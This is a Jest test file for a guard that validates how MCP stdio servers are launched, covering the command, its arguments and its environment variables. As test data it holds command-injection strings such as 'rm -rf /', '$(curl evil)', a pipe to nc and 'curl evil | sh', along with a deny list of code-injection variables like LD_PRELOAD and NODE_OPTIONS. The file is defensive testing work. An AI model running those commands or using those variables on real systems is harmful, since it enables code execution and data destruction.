import { DEFAULT_DENIED_ENV, isDeniedEnv, parseEnvNameList, resolveDeniedEnv } from './denied-env';
import { checkStdioLaunch } from './stdio-guard';

const OPEN = { deniedEnv: DEFAULT_DENIED_ENV };
const ALLOW_LIST = { allowedCommands: ['npx', 'uvx', '/usr/local/bin/mcp-server'], deniedEnv: DEFAULT_DENIED_ENV };

describe('checkStdioLaunch', () => {
  it.each([
    ['npx', ['-y', '@modelcontextprotocol/server-filesystem', '/tmp']],
    ['uvx', ['mcp-server-git', '--repository', '/srv/repo']],
    ['node', ['server.js']],
    ['python3.12', ['-m', 'mcp_server']],
    ['/usr/local/bin/mcp-server', []],
    ['/opt/mcp-servers/fs_server-1.2+build', []],
    ['npx', ['some-server', 'a; rm -rf /', '$(curl evil)', '`id`', '| nc evil 1', '&& reboot', "'quoted'", '\n']],
  ])('accepts %j with args %j', (command, args) => {
    expect(checkStdioLaunch({ command, args }, OPEN)).toEqual([]);
  });

  it('accepts ordinary env variables', () => {
    const env = { GITHUB_TOKEN: 'x; rm -rf /', API_KEY: '$(id)', LOG_LEVEL: 'debug', _private: '1', lowercase_name: 'v' };

    expect(checkStdioLaunch({ command: 'npx', env }, OPEN)).toEqual([]);
  });

  it.each([
    ['sh -c "curl evil | sh"', 'shell command string'],
    ["bash -c 'id'", 'shell command string, single quotes'],
    ['npx -y server', 'arguments inside the command'],
    ['node;id', 'semicolon'],
    ['node|nc', 'pipe'],
    ['node&', 'ampersand'],
    ['$SHELL', 'variable expansion'],
    ['$(id)', 'command substitution'],
    ['`id`', 'backticks'],
    ['node>out', 'redirect'],
    ['node<in', 'redirect in'],
    ['(node)', 'subshell'],
    ['{node}', 'braces'],
    ['nod*', 'glob'],
    ['nod?', 'glob character'],
    ['nod[e]', 'bracket glob'],
    ['!node', 'history expansion'],
    ['~/bin/server', 'tilde'],
    ['"node"', 'double quotes'],
    ["'node'", 'single quotes'],
    ['node\nid', 'newline'],
    ['node\u0000', 'NUL'],
    ['node\tx', 'tab'],
    ['node\u00a0x', 'non-breaking space'],
    ['C:\\tools\\server.exe', 'backslashes'],
    ['node#x', 'comment'],
    ['./server', 'relative path'],
    ['../bin/server', 'parent-relative path'],
    ['bin/server', 'relative path without dot'],
    ['/usr/bin/../../tmp/evil', 'dot-dot segment in absolute path'],
    ['/usr/./bin/node', 'dot segment'],
    ['..', 'parent directory'],
    ['.', 'current directory'],
    ['', 'empty'],
    ['a'.repeat(1025), 'too long'],
  ])('refuses the command %j (%s)', (command) => {
    const issues = checkStdioLaunch({ command }, OPEN);

    expect(issues).toHaveLength(1);
    expect(issues[0]).toMatchObject({ field: 'config.command', code: 'COMMAND_INVALID' });
  });

  it('does not also report an invalid command as not allowed', () => {
    expect(checkStdioLaunch({ command: 'npx -y x' }, ALLOW_LIST)).toEqual([
      expect.objectContaining({ code: 'COMMAND_INVALID' }),
    ]);
  });

  describe('with an allow-list', () => {
    it.each(['npx', 'uvx', '/usr/local/bin/mcp-server'])('accepts %j', (command) => {
      expect(checkStdioLaunch({ command, args: ['-c', 'anything'] }, ALLOW_LIST)).toEqual([]);
    });

    it.each([
      ['sh', 'shell by name'],
      ['bash', 'another shell'],
      ['/bin/sh', 'shell by path'],
      ['/tmp/evil/npx', 'an allowed name at another path'],
      ['/usr/bin/npx', 'an allowed name given as a path'],
      ['mcp-server', 'the basename of an allowed path'],
      ['NPX', 'different case'],
    ])('refuses %j (%s)', (command) => {
      expect(checkStdioLaunch({ command, args: ['-c', 'id'] }, ALLOW_LIST)).toEqual([
        {
          field: 'config.command',
          code: 'COMMAND_NOT_ALLOWED',
          message: `command ${command} is not in the allowed list`,
        },
      ]);
    });

    it('treats an empty list as no restriction', () => {
      expect(checkStdioLaunch({ command: 'sh' }, { allowedCommands: [], deniedEnv: [] })).toEqual([]);
    });
  });

  describe('env', () => {
    it.each([
      'LD_PRELOAD',
      'LD_LIBRARY_PATH',
      'LD_AUDIT',
      'DYLD_INSERT_LIBRARIES',
      'NODE_OPTIONS',
      'NODE_PATH',
      'NODE_EXTRA_CA_CERTS',
      'PYTHONPATH',
      'PYTHONSTARTUP',
      'PYTHONHOME',
      'PERL5LIB',
      'PERL5OPT',
      'RUBYOPT',
      'RUBYLIB',
      'JAVA_TOOL_OPTIONS',
      '_JAVA_OPTIONS',
      'JDK_JAVA_OPTIONS',
      'CLASSPATH',
      'BASH_ENV',
      'ENV',
      'PROMPT_COMMAND',
      'SHELLOPTS',
      'PS4',
      'GCONV_PATH',
      'GIT_SSH_COMMAND',
      'GIT_CONFIG_COUNT',
      'PATH',
      'npm_config_script_shell',
      'npm_config_node_options',
      'NPM_CONFIG_SCRIPT_SHELL',
      'Npm_Config_Registry',
    ])('refuses %s', (name) => {
      expect(checkStdioLaunch({ command: 'npx', env: { [name]: '/tmp/x' } }, OPEN)).toEqual([
        expect.objectContaining({ field: `config.env.${name}`, code: 'ENV_NOT_ALLOWED' }),
      ]);
    });

    it.each(['LD_PRELOAD=/tmp/evil.so#', 'NODE_OPTIONS=--require=/tmp/x', 'A B', 'A\nLD_PRELOAD', '', '1ABC', 'NAME-WITH-DASH'])(
      'refuses the malformed name %j, which could smuggle another variable',
      (name) => {
        expect(checkStdioLaunch({ command: 'npx', env: { [name]: 'v' } }, OPEN)).toEqual([
          { field: `config.env.${name}`, code: 'ENV_NOT_ALLOWED', message: 'not a valid environment variable name' },
        ]);
      },
    );

    it('matches exact names case-sensitively, as the loaders read them', () => {
      expect(checkStdioLaunch({ command: 'npx', env: { ld_preload: 'x', node_options: 'y', Path: 'z' } }, OPEN)).toEqual([]);
    });

    it('reports every offending variable and the command together', () => {
      const issues = checkStdioLaunch(
        { command: 'sh', env: { LD_PRELOAD: 'a', SAFE: 'b', npm_config_script_shell: 'c' } },
        ALLOW_LIST,
      );

      expect(issues.map((issue) => [issue.field, issue.code])).toEqual([
        ['config.command', 'COMMAND_NOT_ALLOWED'],
        ['config.env.LD_PRELOAD', 'ENV_NOT_ALLOWED'],
        ['config.env.npm_config_script_shell', 'ENV_NOT_ALLOWED'],
      ]);
      expect(issues[1]?.message).toContain('STDIO_ALLOWED_ENV');
    });

    it('uses the denied list it is given', () => {
      const spec = { command: 'npx', env: { PATH: '/opt/bin', CUSTOM_HOOK: 'x' } };

      expect(checkStdioLaunch(spec, { deniedEnv: resolveDeniedEnv(['PATH']) })).toEqual([]);
      expect(checkStdioLaunch(spec, { deniedEnv: ['CUSTOM_HOOK'] })).toEqual([
        expect.objectContaining({ field: 'config.env.CUSTOM_HOOK' }),
      ]);
    });
  });
});

describe('isDeniedEnv', () => {
  it('matches a prefix entry in any case and an exact entry only exactly', () => {
    const denied = ['npm_config_*', 'LD_PRELOAD'];

    expect(isDeniedEnv('NPM_CONFIG_USERCONFIG', denied)).toBe(true);
    expect(isDeniedEnv('npm_config_', denied)).toBe(true);
    expect(isDeniedEnv('npm_configx', denied)).toBe(false);
    expect(isDeniedEnv('LD_PRELOAD', denied)).toBe(true);
    expect(isDeniedEnv('LD_PRELOAD_X', denied)).toBe(false);
    expect(isDeniedEnv('Ld_Preload', denied)).toBe(false);
  });
});

describe('resolveDeniedEnv', () => {
  it('removes only the names an operator allows', () => {
    const denied = resolveDeniedEnv(['PATH', 'NODE_EXTRA_CA_CERTS', 'NOT_IN_LIST']);

    expect(denied).not.toContain('PATH');
    expect(denied).not.toContain('NODE_EXTRA_CA_CERTS');
    expect(denied).toHaveLength(DEFAULT_DENIED_ENV.length - 2);
    expect(denied).toContain('LD_PRELOAD');
  });

  it('allows a prefix only when the prefix itself is named, in any case', () => {
    expect(resolveDeniedEnv(['npm_config_registry'])).toContain('npm_config_*');
    expect(resolveDeniedEnv(['NPM_CONFIG_*'])).not.toContain('npm_config_*');
  });

  it('is case-sensitive for exact names', () => {
    expect(resolveDeniedEnv(['ld_preload'])).toContain('LD_PRELOAD');
  });

  it('returns a copy of the default list when nothing is allowed', () => {
    const denied = resolveDeniedEnv([]);

    expect(denied).toEqual(DEFAULT_DENIED_ENV);
    expect(denied).not.toBe(DEFAULT_DENIED_ENV);
  });
});

describe('parseEnvNameList', () => {
  it('splits on commas and whitespace and drops empties', () => {
    expect(parseEnvNameList(' PATH, NODE_EXTRA_CA_CERTS\nnpm_config_*,, ')).toEqual(['PATH', 'NODE_EXTRA_CA_CERTS', 'npm_config_*']);
    expect(parseEnvNameList(undefined)).toEqual([]);
    expect(parseEnvNameList('')).toEqual([]);
  });
});
